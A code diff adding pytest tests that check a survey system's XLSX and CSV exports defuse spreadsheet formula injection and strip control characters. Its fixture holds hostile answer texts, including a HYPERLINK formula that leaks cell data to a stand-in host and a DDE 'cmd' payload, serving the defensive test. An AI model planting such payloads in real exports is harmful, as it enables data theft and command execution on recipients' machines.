@@ -16,7 +16,7 @@ from participants import roles
 from surveys import exports
 from surveys.evaluation import prepost_evaluation, round_evaluation
 from surveys.evaluation_figures import DELTA, INT, NUM, PCT, POINTS
-from tests.factories import SurveyRoundFactory, TrackFactory, make_user
+from tests.factories import EventFactory, SurveyRoundFactory, TrackFactory, in_days, make_user
 from tests.surveys.evaluation_data import round_with
 
 pytest_plugins = ["tests.surveys.evaluation_fixtures"]
@@ -287,3 +287,72 @@ def test_api_and_page_take_the_same_queries_for_3_and_12_respondents(
             sizes.append(len(queries))
         counts.append(sizes)
     assert counts[0] == counts[1]
+
+
+# --- hostile texts: formulas defused, control characters kept out of the XML ---------------------
+
+HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
+
+
+@pytest.fixture
+def hostile_round(municipality, form_questions, topics):
+    """Six respondents whose free texts, and the names of whose event, would break an export."""
+    from surveys.models import Answer
+
+    round = round_with(municipality, form_questions, topics, 6)
+    track = TrackFactory(program__municipality=municipality, program__name="Программа\x0bдва",
+                         theme="Тема\x01 трека")
+    event = EventFactory(municipality=municipality, program=track.program, track=track,
+                         title="=1+1 Семинар\x0b«Анализ»", starts_at=in_days(-3))
+    round.event, round.title = event, "Опрос\x0bпосле семинара"
+    round.save(update_fields=["event", "title"])
+    texts = [HYPERLINK, "строка\x0bвторая", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\x00ноль",
+             "обычный"]
+    for answer, text in zip(Answer.objects.filter(response__round=round,
+                                                  question=form_questions["improve"]),
+                            texts, strict=True):
+        answer.text = text
+        answer.save(update_fields=["text"])
+    return round
+
+
+def xlsx_cells(content):
+    book = load_workbook(io.BytesIO(content))
+    return [cell for sheet in book for row in sheet.iter_rows() for cell in row
+            if cell.value is not None]
+
+
+def test_xlsx_defuses_formulas_and_control_characters_of_answers_and_names(hostile_round):
+    cells = xlsx_cells(exports.to_xlsx(round_evaluation(hostile_round)))
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    values = {cell.value for cell in cells}
+    assert "'" + HYPERLINK in values
+    assert "'-2+3+cmd|' /C calc'!A0" in values and "'@SUM(1)" in values
+    assert "строка\nвторая" in values and "ноль" in values
+    assert "Программа\nдва" in values
+    assert any(str(v).startswith("'=1+1 Семинар\n«Анализ»") for v in values)
+    assert not any(isinstance(v, str) and "\x0b" in v for v in values)
+    # Numbers stay numbers: the shares and means are numeric cells, not quoted texts.
+    assert any(cell.data_type == "n" and isinstance(cell.value, float) for cell in cells)
+
+
+def test_csv_defuses_formulas_of_answers_and_keeps_negative_numbers(hostile_round):
+    content = exports.to_csv(round_evaluation(hostile_round)).decode("utf-8-sig")
+    fields = [field for row in csv.reader(io.StringIO(content), delimiter=";") for field in row]
+    assert "'" + HYPERLINK in fields and "'@SUM(1)" in fields
+    assert not [field for field in fields if field.startswith(("=", "+", "@", "\t", "\r"))
+                or (field.startswith("-") and not field[1:].replace(",", "").isdigit())]
+    assert "\x0b" not in content and "\x00" not in content
+
+
+@pytest.mark.parametrize("url", ["/rounds/{round}/evaluation.xlsx",
+                                 "/tracks/{track}/evaluation.xlsx",
+                                 "/programs/{program}/evaluation.xlsx",
+                                 "/rounds/{round}/evaluation.csv"])
+def test_every_file_of_a_hostile_round_track_and_program_downloads(hostile_round, curator, url):
+    event = hostile_round.event
+    response = signed_in(curator).get(API + url.format(
+        round=hostile_round.pk, track=event.track_id, program=event.program_id))
+    assert response.status_code == 200
+    if url.endswith(".xlsx"):
+        assert not [c for c in xlsx_cells(response.content) if c.data_type == "f"]
